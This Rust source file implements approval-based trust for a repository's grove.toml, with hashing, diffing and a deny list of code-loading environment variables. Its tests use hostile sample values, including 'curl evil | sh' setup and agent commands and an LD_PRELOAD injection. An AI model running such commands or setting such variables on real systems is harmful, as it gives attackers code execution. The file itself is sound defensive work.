//! Trust in a repository's `grove.toml`: nothing it asks for (setup commands, the agent, `[env]`,
//! `copy`) is applied until the user approved that exact content.
//!
//! A repository is untrusted input: a committed config that runs commands when a session is
//! created is code execution for anyone who clones a hostile repository (direnv's `allow`, mise's
//! `trust`, VS Code's Workspace Trust and git's never-cloned hooks refuse the same thing). So:
//!
//! - the config is read only from the main checkout's HEAD commit
//!   ([`repo_config::load_head`](crate::repo_config::load_head)), never from a session branch or a
//!   working tree an agent can write to;
//! - an approval is the SHA-256 of the parsed config plus the environment keys the user let
//!   through ([`Approval`]), kept in Grove's database; a config never approved, or changed since,
//!   is refused with `untrusted_config` and a text that says what it would do;
//! - environment keys that change how programs load code ([`loads_code`]: `LD_PRELOAD`,
//!   `NODE_OPTIONS`, `BASH_ENV`, `PATH`, …) are dropped unless the approval names them;
//! - only [`check`] constructs a [`Trusted`] config, and session creation takes one, so no code
//!   path can apply an unapproved config by forgetting a check.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use sha2::{Digest, Sha256};

use crate::repo_config::RepoConfig;

/// What the user approved for one repository.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Approval {
    /// [`hash`] of the config approved.
    pub hash: String,
    /// Keys that [`loads_code`] which the user explicitly let through.
    pub allow_env: BTreeSet<String>,
    /// The config approved, kept to show what changed since.
    pub config: RepoConfig,
}

/// A repository's config that the user approved, with the environment keys they did not let
/// through already removed. Only [`check`] makes one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Trusted {
    config: RepoConfig,
    /// Keys removed because they load code and the approval does not name them.
    withheld: Vec<String>,
}

impl Trusted {
    /// The config to apply.
    pub fn config(&self) -> &RepoConfig {
        &self.config
    }

    /// Environment keys in the file that are not applied, for a warning.
    pub fn withheld(&self) -> &[String] {
        &self.withheld
    }

    /// A repository without `grove.toml` asks for nothing, so there is nothing to approve.
    pub fn nothing() -> Trusted {
        Trusted {
            config: RepoConfig::default(),
            withheld: Vec::new(),
        }
    }

    /// The approved config of a previous approval, for terminals started later in a session (a
    /// new shell, a restart), filtered the same way.
    pub fn from_approval(approval: &Approval) -> Trusted {
        filtered(&approval.config, &approval.allow_env)
    }
}

/// Why a config is not trusted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Untrusted {
    /// Never approved.
    New,
    /// Approved once, changed since.
    Changed,
}

/// The SHA-256 (hex) of a parsed config: formatting and comments do not change it, any value does.
pub fn hash(config: &RepoConfig) -> String {
    // serde_json writes struct fields in declaration order and BTreeMap keys sorted, so the text
    // is canonical for a given config.
    let canonical = serde_json::to_vec(config).unwrap_or_default();
    let digest = Sha256::digest(&canonical);
    digest.iter().fold(String::with_capacity(64), |mut s, b| {
        let _ = write!(s, "{b:02x}");
        s
    })
}

/// Checks `config` (HEAD's) against the stored approval.
pub fn check(config: &RepoConfig, approval: Option<&Approval>) -> Result<Trusted, Untrusted> {
    match approval {
        None => Err(Untrusted::New),
        Some(a) if a.hash != hash(config) => Err(Untrusted::Changed),
        Some(a) => Ok(filtered(config, &a.allow_env)),
    }
}

fn filtered(config: &RepoConfig, allow_env: &BTreeSet<String>) -> Trusted {
    let mut config = config.clone();
    let mut withheld = Vec::new();
    config.env.retain(|k, _| {
        let keep = !loads_code(k) || allow_env.contains(k);
        if !keep {
            withheld.push(k.clone());
        }
        keep
    });
    Trusted { config, withheld }
}

/// Whether an environment variable changes how programs find or load code: the dynamic loader,
/// shells' start-up files, interpreters' module paths and flags, git's own settings, and the
/// programs other programs run for you. Such a key in a repository's config is code execution
/// inside every shell and agent (claude and codex are Node programs), so it applies only when the
/// approval names it.
pub fn loads_code(key: &str) -> bool {
    const PREFIXES: &[&str] = &[
        "LD_",
        "DYLD_",
        "GIT_",
        "PYTHON",
        "PERL",
        "RUBY",
        "NODE_",
        "NPM_CONFIG_",
        "BUN_",
        "DENO_",
        "JAVA_",
        "_JAVA_",
        "JDK_",
        "LUA_",
        "GEM_",
        "BASH_FUNC_",
    ];
    const KEYS: &[&str] = &[
        "PATH",
        "BASH_ENV",
        "ENV",
        "ZDOTDIR",
        "HOME",
        "SHELL",
        "SHELLOPTS",
        "BASHOPTS",
        "PROMPT_COMMAND",
        "PS4",
        "IFS",
        "CDPATH",
        "XDG_CONFIG_HOME",
        "XDG_DATA_HOME",
        "XDG_CONFIG_DIRS",
        "XDG_DATA_DIRS",
        "CLASSPATH",
        "RUSTC_WRAPPER",
        "RUSTC",
        "RUSTFLAGS",
        "CARGO_HOME",
        "CARGO_BUILD_RUSTC_WRAPPER",
        "EDITOR",
        "VISUAL",
        "PAGER",
        "MANPAGER",
        "LESSOPEN",
        "LESSCLOSE",
        "BROWSER",
        "SSH_ASKPASS",
        "SUDO_ASKPASS",
        "TERMINFO",
        "TERMINFO_DIRS",
        "INPUTRC",
        "TMPDIR",
    ];
    let upper = key.to_ascii_uppercase();
    KEYS.contains(&upper.as_str()) || PREFIXES.iter().any(|p| upper.starts_with(p))
}

/// The keys of `config.env` that [`loads_code`].
pub fn code_loading_keys(config: &RepoConfig) -> Vec<String> {
    config
        .env
        .keys()
        .filter(|k| loads_code(k))
        .cloned()
        .collect()
}

/// The approval text: exactly what the config will run and set, with a warning on every key that
/// loads code, and what changed since the approved version. The CLI prints it; the UI shows the
/// same facts in its dialog.
pub fn summary(
    repo: &str,
    config: &RepoConfig,
    approved: Option<&RepoConfig>,
    allow_env: &BTreeSet<String>,
) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "grove.toml of {repo} (from its HEAD commit) will:");
    if config.setup.is_empty() {
        let _ = writeln!(out, "  run no setup commands");
    } else {
        let _ = writeln!(
            out,
            "  run these setup commands in each new session's worktree:"
        );
        for c in &config.setup {
            let _ = writeln!(out, "    $ {c}");
        }
    }
    match &config.agent {
        Some(agent) => {
            let _ = writeln!(out, "  start this agent command by default:\n    $ {agent}");
        }
        None => {
            let _ = writeln!(out, "  name no default agent");
        }
    }
    if config.env.is_empty() {
        let _ = writeln!(out, "  set no environment variables");
    } else {
        let _ = writeln!(out, "  set these environment variables in every terminal:");
        for (k, v) in &config.env {
            let warn = match (loads_code(k), allow_env.contains(k)) {
                (false, _) => "",
                (true, true) => "   [WARNING: changes how programs load code; allowed]",
                (true, false) => {
                    "   [WARNING: changes how programs load code; NOT applied unless allowed with --allow-env]"
                }
            };
            let _ = writeln!(out, "    {k}={v}{warn}");
        }
    }
    if config.copy.is_empty() {
        let _ = writeln!(out, "  copy no files");
    } else {
        let _ = writeln!(
            out,
            "  copy files matching these patterns from the main checkout into new worktrees:"
        );
        for c in &config.copy {
            let _ = writeln!(out, "    {c}");
        }
    }
    if let Some(old) = approved
        && old != config
    {
        let _ = writeln!(out, "Changed since you approved it:");
        for line in diff(old, config) {
            let _ = writeln!(out, "  {line}");
        }
    }
    out
}

/// Lines of the config as the summary lists them, for a diff.
fn lines(config: &RepoConfig) -> Vec<String> {
    let mut v: Vec<String> = config.setup.iter().map(|c| format!("setup: {c}")).collect();
    if let Some(a) = &config.agent {
        v.push(format!("agent: {a}"));
    }
    v.extend(config.env.iter().map(|(k, val)| format!("env: {k}={val}")));
    v.extend(config.copy.iter().map(|c| format!("copy: {c}")));
    v
}

/// `-` lines for what the approved config had and the new one has not, `+` for the reverse.
pub fn diff(old: &RepoConfig, new: &RepoConfig) -> Vec<String> {
    let (old, new) = (lines(old), lines(new));
    let old_set: BTreeSet<&String> = old.iter().collect();
    let new_set: BTreeSet<&String> = new.iter().collect();
    let mut out: Vec<String> = old
        .iter()
        .filter(|l| !new_set.contains(l))
        .map(|l| format!("- {l}"))
        .collect();
    out.extend(
        new.iter()
            .filter(|l| !old_set.contains(l))
            .map(|l| format!("+ {l}")),
    );
    out
}

/// Only keys present in the config and loading code can be allowed; anything else is a mistake
/// the user should hear about (a typo would otherwise approve nothing and say nothing).
pub fn check_allow_env(
    config: &RepoConfig,
    allow_env: &[String],
) -> Result<BTreeSet<String>, String> {
    let present: BTreeMap<&str, ()> = config.env.keys().map(|k| (k.as_str(), ())).collect();
    let mut out = BTreeSet::new();
    for key in allow_env {
        if !present.contains_key(key.as_str()) {
            return Err(format!(
                "--allow-env {key}: grove.toml sets no such environment variable"
            ));
        }
        if !loads_code(key) {
            return Err(format!(
                "--allow-env {key}: this key needs no explicit approval; approve without it"
            ));
        }
        out.insert(key.clone());
    }
    Ok(out)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn config(env: &[(&str, &str)]) -> RepoConfig {
        RepoConfig {
            setup: vec!["npm ci".into()],
            copy: vec![".env".into()],
            agent: Some("claude".into()),
            env: env
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect(),
        }
    }

    #[test]
    fn hash_changes_with_any_value_and_only_then() {
        let a = config(&[("FOO", "1")]);
        assert_eq!(hash(&a), hash(&a.clone()));
        assert_eq!(hash(&a).len(), 64);
        let mut b = a.clone();
        b.setup.push("touch x".into());
        assert_ne!(hash(&a), hash(&b));
        let mut c = a.clone();
        c.env.insert("FOO".into(), "2".into());
        assert_ne!(hash(&a), hash(&c));
    }

    #[test]
    fn check_refuses_new_and_changed_and_withholds_code_loading_keys() {
        let cfg = config(&[("FOO", "1"), ("NODE_OPTIONS", "--require ./x.js")]);
        assert_eq!(check(&cfg, None), Err(Untrusted::New));
        let approval = Approval {
            hash: hash(&cfg),
            allow_env: BTreeSet::new(),
            config: cfg.clone(),
        };
        let trusted = check(&cfg, Some(&approval)).unwrap();
        assert_eq!(trusted.config().env.keys().collect::<Vec<_>>(), ["FOO"]);
        assert_eq!(trusted.withheld(), ["NODE_OPTIONS"]);
        let allowed = Approval {
            allow_env: ["NODE_OPTIONS".to_owned()].into(),
            ..approval.clone()
        };
        assert_eq!(check(&cfg, Some(&allowed)).unwrap().config().env.len(), 2);
        let mut changed = cfg.clone();
        changed.agent = Some("sh -c 'curl evil | sh'".into());
        assert_eq!(check(&changed, Some(&approval)), Err(Untrusted::Changed));
    }

    #[test]
    fn code_loading_keys() {
        for k in [
            "LD_PRELOAD",
            "DYLD_INSERT_LIBRARIES",
            "BASH_ENV",
            "ENV",
            "ZDOTDIR",
            "PATH",
            "NODE_OPTIONS",
            "PYTHONPATH",
            "PYTHONSTARTUP",
            "PERL5OPT",
            "RUBYOPT",
            "GIT_SSH_COMMAND",
            "GIT_CONFIG_COUNT",
            "path",
        ] {
            assert!(loads_code(k), "{k}");
        }
        for k in ["DATABASE_URL", "RUST_LOG", "FOO", "NODEJS_FLAVOR"] {
            assert!(!loads_code(k), "{k}");
        }
    }

    #[test]
    fn summary_lists_everything_and_warns() {
        let cfg = config(&[("DATABASE_URL", "pg://x"), ("LD_PRELOAD", "/tmp/x.so")]);
        let text = summary("myapp", &cfg, None, &BTreeSet::new());
        for needle in [
            "$ npm ci",
            "$ claude",
            "DATABASE_URL=pg://x",
            "LD_PRELOAD=/tmp/x.so   [WARNING",
            "NOT applied",
            "    .env",
        ] {
            assert!(text.contains(needle), "{needle} in\n{text}");
        }
        let mut new = cfg.clone();
        new.setup = vec!["npm ci".into(), "curl evil | sh".into()];
        let text = summary("myapp", &new, Some(&cfg), &BTreeSet::new());
        assert!(text.contains("+ setup: curl evil | sh"), "{text}");
        assert_eq!(diff(&cfg, &new), ["+ setup: curl evil | sh"]);
    }

    #[test]
    fn allow_env_names_only_present_code_loading_keys() {
        let cfg = config(&[("FOO", "1"), ("PATH", "/evil")]);
        assert_eq!(
            check_allow_env(&cfg, &["PATH".into()]).unwrap(),
            ["PATH".to_owned()].into()
        );
        assert!(check_allow_env(&cfg, &["FOO".into()]).is_err());
        assert!(check_allow_env(&cfg, &["LD_PRELOAD".into()]).is_err());
    }
}
